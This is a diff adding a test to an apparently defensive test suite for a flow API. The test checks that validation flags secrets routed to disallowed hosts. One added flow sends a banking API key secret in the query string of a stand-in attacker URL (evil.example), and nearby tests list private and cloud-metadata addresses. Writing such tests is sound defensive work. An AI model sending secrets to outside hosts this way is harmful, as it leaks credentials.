@@ -103,6 +103,15 @@ describe('secrets stay where they belong (issue 14)', () => {
     expect(received).toEqual([]);
   });
 
+  it('names a secret sent to a destination it may not reach in validation', async () => {
+    await t.api('POST', '/api/flows', { flow: callFlow('validated', 'https://evil.example/x?k={{secret:CORE_BANKING_API_KEY}}') });
+    const reply = await t.api('POST', '/api/flows/validated/validate', {});
+    expect(reply.body.ok).toBe(false);
+    expect(reply.body.issues).toContainEqual(expect.objectContaining({ code: 'SECRET002', nodeId: 'call', pointer: '/nodes/1/config/url' }));
+    const unlisted = await t.api('POST', '/api/flows/validated/validate', { flow: callFlow('validated', 'https://x.example/?k={{secret:UNLISTED}}') });
+    expect(unlisted.body.issues).toContainEqual(expect.objectContaining({ code: 'SECRET001', nodeId: 'call' }));
+  });
+
   it('knows the private ranges', () => {
     const privateOnes = ['127.0.0.1', '10.1.2.3', '172.20.0.1', '192.168.1.1', '169.254.169.254', '::1', 'fe80::1', 'fd00::1', '::ffff:127.0.0.1', '0.0.0.0'];
     expect(privateOnes.filter((address) => !isPrivateAddress(address))).toEqual([]);
